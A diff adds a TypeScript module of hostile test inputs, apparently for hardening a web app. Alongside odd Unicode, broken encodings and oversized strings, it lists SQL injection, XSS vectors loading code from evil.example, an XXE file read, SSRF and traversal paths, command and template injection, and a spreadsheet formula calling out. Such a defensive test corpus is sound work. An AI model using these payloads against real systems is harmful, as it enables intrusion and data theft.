@@ -1,0 +1,335 @@
+/** One thing that somebody may type, paste or send. `bytes` is for what no text can hold: it goes out encoded as it is. */
+export type BadText = { name: string; text: string; bytes?: string };
+
+const named = (kind: string, texts: readonly string[]): BadText[] =>
+  texts.map((text, at) => ({ name: `${kind} ${at + 1}`, text }));
+
+const letters = (codes: readonly number[]): string[] =>
+  codes.map((code) => `a${String.fromCodePoint(code)}b`);
+const range = (from: number, to: number): number[] =>
+  Array.from({ length: to - from + 1 }, (_, at) => from + at);
+
+/** Every control of ASCII and Latin-1 that a keyboard cannot make, and what Unicode adds to steer a text. */
+const controls = named("control", letters([...range(0x00, 0x1f), 0x7f, ...range(0x80, 0x8f), 0x85, 0xad]));
+const steering = named("steering", [
+  ...letters([
+    0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e,
+  ]),
+  ...letters([0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0xfff9, 0xfffc, 0xfffd, 0xe0001]),
+  "\u202Eerif no draw\u202C",
+  "مستشفى العام",
+  "בית חולים",
+  "abc مستشفى def",
+]);
+
+const marks = "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309";
+const writings = named("writing", [
+  "Ward \u{1F3E5}",
+  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}",
+  "\u{1F1EC}\u{1F1E7}",
+  "\u{20BB7}\u91CE\u5BB6",
+  "\u{10FFFF}",
+  "\u{E000}",
+  "\uFDD0",
+  "\uFFFF",
+  `a${marks}`,
+  `W${marks.repeat(30)}ard`,
+  "e\u0301",
+  "\u00E9",
+  "\uFB01ne",
+  "\u0130stanbul",
+  "\u0131",
+  "STRASSE stra\u00DFe",
+  "\uFF1Cscript\uFF1E",
+  "\uFF07",
+  "\u02BC",
+  "\u2019",
+  "\u1E9E",
+  "\u0E01\u0E33",
+  "\u4E2D\u6587\u75C5\u623F",
+  "\u0440\u0430\u0443\u0440\u0430l",
+  "\u2000\u2001\u2002\u2003\u2004\u2005",
+  "\u00A0\u00A0",
+  "\u3000",
+  "\u180E",
+]);
+
+/** Half of a letter: text can hold it in memory and nowhere else. */
+const broken: BadText[] = [
+  { name: "a lone high surrogate", text: "a\uD800b" },
+  { name: "a lone low surrogate", text: "a\uDC00b" },
+  { name: "surrogates the wrong way round", text: "\uDC00\uD800" },
+  { name: "a surrogate in UTF-8", text: "", bytes: "a%ED%A0%80b" },
+  { name: "half a letter of UTF-8", text: "", bytes: "a%C3" },
+  { name: "a byte that begins nothing", text: "", bytes: "%FF%FE%80" },
+  { name: "an overlong slash", text: "", bytes: "%C0%AF" },
+  { name: "an overlong NUL", text: "", bytes: "%C0%80" },
+  { name: "a percent sign that encodes nothing", text: "", bytes: "%ZZ%" },
+  { name: "NUL in the middle", text: "", bytes: "a%00b" },
+  { name: "NUL alone", text: "", bytes: "%00" },
+  { name: "line ends of every kind", text: "a\rb\nc\r\nd\u0085e\u2028f" },
+];
+
+const long: BadText[] = [
+  { name: "one word of 1,000", text: "w".repeat(1_000) },
+  { name: "one word of 100,000", text: "w".repeat(100_000) },
+  { name: "one line of a million", text: "x".repeat(1_000_000) },
+  { name: "100,000 spaces", text: " ".repeat(100_000) },
+  { name: "50,000 line ends", text: "\n".repeat(50_000) },
+  { name: "20,000 letters of four bytes", text: "\u{1F3E5}".repeat(20_000) },
+  { name: "20,000 marks on one letter", text: `a${"\u0301".repeat(20_000)}` },
+  { name: "10,000 words", text: "ward ".repeat(10_000) },
+  { name: "10,000 open brackets", text: "(".repeat(10_000) },
+  { name: "30,000 letters, then an odd one", text: `${"a".repeat(30_000)}!` },
+  { name: "many at signs", text: `${"a@".repeat(20_000)}b` },
+  { name: "an address without an end", text: `a@${"b.".repeat(10_000)}` },
+  { name: "many dashes", text: "-".repeat(30_000) },
+  { name: "a long line of digits", text: "9".repeat(30_000) },
+];
+
+const sql = named("SQL", [
+  "'",
+  "''",
+  '"',
+  "\\",
+  "\\'",
+  ";",
+  "--",
+  "/*",
+  "' OR 1=1 --",
+  "' OR '1'='1",
+  "'; DROP TABLE users; --",
+  "') OR ('1'='1",
+  "' UNION SELECT email FROM users --",
+  "1; SELECT pg_sleep(3)",
+  "'||pg_sleep(3)||'",
+  "$$",
+  "$1",
+  ":name",
+  "E'\\x41'",
+  "%",
+  "%%",
+  "_",
+  "%_%",
+  "a%b_c\\d",
+  "\\%",
+  "*",
+  "a & b",
+  "a | b",
+  "!a",
+  "a:*",
+  "(",
+  ")",
+  "<->",
+  "a <-> b",
+  ":*",
+  "a & ",
+  "''::tsquery",
+  "^(a+)+$",
+  "[",
+  "[a",
+  "(?i)",
+  "NULL",
+  "null",
+  "undefined",
+  "true",
+  "{}",
+  "[]",
+  '{"a":1}',
+  "[object Object]",
+]);
+
+/** What a page must show as the letters that it is made of. */
+export const scripts: readonly BadText[] = named("script", [
+  "<script>alert('CANARY')</script>",
+  "</script><script>alert('CANARY')</script>",
+  "</title><script>alert('CANARY')</script>",
+  "</textarea><script>alert('CANARY')</script>",
+  "\"><script>alert('CANARY')</script>",
+  "'><script>alert('CANARY')</script>",
+  "<img src=x onerror=alert('CANARY')>",
+  "\"><img src=x onerror=alert('CANARY')>",
+  "<svg onload=alert('CANARY')>",
+  "<svg><script>alert('CANARY')</script></svg>",
+  "<iframe src=javascript:alert('CANARY')>",
+  "<a href=\"javascript:alert('CANARY')\">x</a>",
+  "<body onload=alert('CANARY')>",
+  "<math><mi//xlink:href=\"data:x,<script>alert('CANARY')</script>\">",
+  "<form action=//evil.example><input type=submit>",
+  "<base href=//evil.example/>",
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<style>@import '//evil.example/x.css'</style>",
+  "<!--<script>alert('CANARY')</script>-->",
+  "<![CDATA[<script>alert('CANARY')</script>]]>",
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  '" onmouseover="alert(\'CANARY\')" x="',
+  "' onfocus='alert(1)' autofocus='",
+  "\" autofocus onfocus=alert('CANARY') \"",
+  "<details open ontoggle=alert('CANARY')>",
+  "<scr<script>ipt>alert('CANARY')</scr</script>ipt>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "\u003cscript\u003ealert('CANARY')\u003c/script\u003e",
+  "<\u0000script>alert('CANARY')</script>",
+  "+ADw-script+AD4-alert('CANARY')+ADw-/script+AD4-",
+  "<plaintext>",
+  "<template><script>alert('CANARY')</script></template>",
+  "<input autofocus onfocus=alert('CANARY')>",
+]);
+
+const addresses = named("address", [
+  "javascript:alert('CANARY')",
+  "JaVaScRiPt:alert('CANARY')",
+  "java\tscript:alert('CANARY')",
+  " javascript:alert('CANARY')",
+  "\u0001javascript:alert('CANARY')",
+  "javascript://example.org/%0aalert('CANARY')",
+  "data:text/html,<script>alert('CANARY')</script>",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "vbscript:msgbox(1)",
+  "//evil.example",
+  "https://user:word@evil.example",
+  "http://169.254.169.254/latest/meta-data",
+  "file:///etc/passwd",
+  "https://",
+  "http://[",
+  "http://[::1",
+  "https://example.org:99999",
+  "../../../../etc/passwd",
+  "..\\..\\windows",
+  "a@b@c",
+  "@example.org",
+  "a@-b.example",
+  '"a b"@example.org',
+  "a@b\r\nBcc: c@example.org",
+  "a@example.org,b@example.org",
+]);
+
+const templates = named("template", [
+  "{{7*7}}",
+  "${7*7}",
+  "#{7*7}",
+  "<%= 7*7 %>",
+  "{%raw%}",
+  "{{constructor.constructor('return process')()}}",
+  "%s%s%s%n",
+  "$(id)",
+  "`id`",
+  "| id",
+  "; id",
+  "&& id",
+  "=1+1",
+  '=HYPERLINK("//evil.example")',
+  "+1",
+  "-1+1",
+  "@SUM(1)",
+  "\t=1+1",
+  "\r=1+1",
+]);
+
+/** Names that every object has without having been given them. */
+const inherited = named("inherited", [
+  "__proto__",
+  "constructor",
+  "prototype",
+  "toString",
+  "hasOwnProperty",
+  "valueOf",
+  "__defineGetter__",
+  "then",
+]);
+
+const numbers = named("number", [
+  "0",
+  "-0",
+  "-1",
+  "+1",
+  "1.5",
+  "1,5",
+  "1e3",
+  "1e309",
+  "-1e309",
+  "NaN",
+  "Infinity",
+  "-Infinity",
+  "0x10",
+  "0b11",
+  "010",
+  "1_000",
+  "2147483648",
+  "-2147483649",
+  "9007199254740993",
+  "9223372036854775808",
+  "99999999999999999999999999",
+  "\u0661\u0662\u0663",
+  "\u00BD",
+  "\u2462",
+  "1 000",
+]);
+
+const dates = named("date", [
+  "2026-02-30",
+  "2026-13-01",
+  "0000-00-00",
+  "9999-12-31",
+  "10000-01-01",
+  "-0001-01-01",
+  "1900-02-29",
+  "2026-04-01T25:00:00Z",
+  "01/04/26",
+  "infinity",
+  "-infinity",
+  "now",
+  "epoch",
+  "today",
+]);
+
+const nothing = named("nothing", ["", " ", "\t", "\n", " \r\n "]);
+
+export const texts: readonly BadText[] = [
+  ...nothing,
+  ...controls,
+  ...steering,
+  ...writings,
+  ...broken,
+  ...long,
+  ...sql,
+  ...scripts,
+  ...addresses,
+  ...templates,
+  ...inherited,
+  ...numbers,
+  ...dates,
+];
+
+const among = (...names: string[]): BadText[] => texts.filter(({ name }) => names.includes(name));
+
+/** One of each kind of trouble, which every place there is must bear. */
+export const sharpest: readonly BadText[] = among(
+  "nothing 1",
+  "a surrogate in UTF-8",
+  "NUL in the middle",
+  "one word of 1,000",
+  "SQL 9",
+  "script 7",
+  "script 23",
+  "inherited 1",
+  "number 8",
+  "number 21",
+);
+
+/** More of them, which every field bears; all others take turns. */
+export const sharp: readonly BadText[] = [
+  ...sharpest,
+  ...among(
+    "control 28",
+    "steering 13",
+    "writing 10",
+    "one word of 100,000",
+    "SQL 24",
+    "script 2",
+    "address 1",
+    "address 24",
+    "date 10",
+  ),
+];
